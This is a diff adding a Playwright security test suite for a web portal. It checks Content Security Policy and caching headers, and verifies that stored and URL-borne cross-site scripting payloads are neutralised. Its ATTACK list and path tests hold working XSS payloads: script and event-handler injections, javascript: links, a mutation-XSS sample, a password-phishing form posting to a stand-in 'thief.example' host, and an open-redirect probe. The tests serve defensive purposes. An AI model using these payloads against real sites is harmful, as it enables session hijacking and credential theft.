@@ -1,0 +1,131 @@
+import { expect, type Page, test } from '@playwright/test';
+import { fileWith, operateJson } from '../support/operator.ts';
+import { beLoggedIn, GENIUS, main, settled, title } from '../support/portal.ts';
+import { MEMBER_PAGES, VISITOR_PAGES } from '../support/routes.ts';
+
+/** Collects what the browser's policies refuse: content, scripts, and strings where Trusted Types are due. */
+async function watchPolicies(page: Page): Promise<string[]> {
+  const refused: string[] = [];
+  await page.exposeFunction('tellRefusal', (what: string) => refused.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile, sample }) => {
+      const tell = (window as unknown as { tellRefusal(what: string): void }).tellRefusal;
+      tell(`${violatedDirective}: ${blockedURI} ${sample} (${sourceFile})`);
+    });
+  });
+  page.on('pageerror', (error) => refused.push(`uncaught: ${error.message}`));
+  page.on('console', (message) => {
+    if (/Content Security Policy|TrustedHTML|TrustedScript/.test(message.text())) refused.push(message.text());
+  });
+  return refused;
+}
+
+test('no page breaks the policies it is served with', async ({ page }) => {
+  test.setTimeout(180_000);
+  const refused = await watchPolicies(page);
+  for (const path of VISITOR_PAGES) {
+    await page.goto(path);
+    await settled(page);
+    expect.soft(refused.splice(0), path).toEqual([]);
+  }
+  await beLoggedIn(page, GENIUS);
+  for (const path of MEMBER_PAGES) {
+    await page.goto(path);
+    await settled(page);
+    expect.soft(refused.splice(0), path).toEqual([]);
+  }
+});
+
+test('the page is served with a strict policy, and is never framed, sniffed or kept unasked', async ({ request }) => {
+  const response = await request.get('/');
+  const headers = response.headers();
+  const policy = new Map(
+    (headers['content-security-policy'] ?? '').split('; ').map((directive) => {
+      const [name = '', ...sources] = directive.split(' ');
+      return [name, sources];
+    }),
+  );
+  expect(policy.get('default-src')).toEqual(["'none'"]);
+  expect(policy.get('frame-ancestors')).toEqual(["'none'"]);
+  expect(policy.get('base-uri')).toEqual(["'none'"]);
+  expect(policy.get('require-trusted-types-for')).toEqual(["'script'"]);
+  for (const name of ['script-src', 'style-src']) {
+    expect(policy.get(name)).toContain("'self'");
+    expect(policy.get(name)).not.toContain("'unsafe-inline'");
+    expect(policy.get(name)).not.toContain("'unsafe-eval'");
+    expect(policy.get(name)).not.toContain('*');
+  }
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['cache-control']).toBe('no-cache');
+});
+
+test('released files are kept for a year, the registry is asked for each time', async ({ request }) => {
+  const registry = await request.get('/registry.json');
+  expect(registry.headers()['cache-control']).toBe('no-cache');
+  const [entry = ''] = /\/remotes\/mf-public\/[^"]+\/remoteEntry\.js/.exec(await registry.text()) ?? [];
+  const file = await request.get(entry);
+  expect(file.status()).toBe(200);
+  expect(file.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
+  expect(file.headers()['x-content-type-options']).toBe('nosniff');
+  expect((await request.get(entry.replace('remoteEntry', 'nothing'))).status()).toBe(404);
+});
+
+/** What somebody with access to the content, but not to the portal, might try. */
+const ATTACK = [
+  '<p>A quiet weekend by the sea.</p>',
+  '<script>window.hacked = "script"</script>',
+  '<img src="/no-such.png" onerror="window.hacked = \'onerror\'">',
+  '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<a href="javascript:window.hacked = \'link\'">Read on</a>',
+  '<form action="https://thief.example/"><input name="password"><button>Log in again</button></form>',
+  '<style>body { display: none }</style>',
+  '<math><mi><style><img src=x onerror="window.hacked = \'mutation\'"></style></mi></math>',
+].join('');
+
+test('a script in an editor’s page never runs, and its text is still there', async ({ page }) => {
+  const slug = `attack-${Date.now()}`;
+  const item = {
+    Slug: slug,
+    Title: 'Akhir pekan tenang',
+    TitleEn: 'A quiet weekend',
+    Image: null,
+    Custom: false,
+    // Anybody may open it by its address; it is in the carousel of nobody here.
+    Country: 'VN',
+    Active: true,
+    Published: true,
+    Position: 99,
+    Description: ATTACK,
+    DescriptionEn: ATTACK,
+  };
+  await operateJson('pages', 'import', fileWith('pages.json', JSON.stringify([item])));
+  await page.goto(`/page/${slug}`);
+  await expect(title(page)).toHaveText('A quiet weekend');
+  await expect(main(page)).toContainText('A quiet weekend by the sea.');
+  const article = main(page).getByRole('article');
+  await expect(article.locator('script, iframe, form, style, [onerror], [onload], [href^="javascript:"]')).toHaveCount(
+    0,
+  );
+  const link = article.getByText('Read on');
+  if (await link.isVisible()) await link.click();
+  await settled(page);
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+});
+
+test('an attack in the address is a path like any other', async ({ page }) => {
+  const refused = await watchPolicies(page);
+  for (const path of [
+    '/%3Cscript%3Ewindow.hacked=1%3C%2Fscript%3E',
+    '/page/%3Cimg%20src=x%20onerror=window.hacked=1%3E',
+    '/rewards?reward=%3Cscript%3E',
+    '/%E0%A4%A',
+    '//thief.example/',
+  ]) {
+    await page.goto(path);
+    await settled(page);
+    expect(new URL(page.url()).host).toBe(new URL(test.info().project.use.baseURL ?? '').host);
+    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  }
+  expect(refused).toEqual([]);
+});
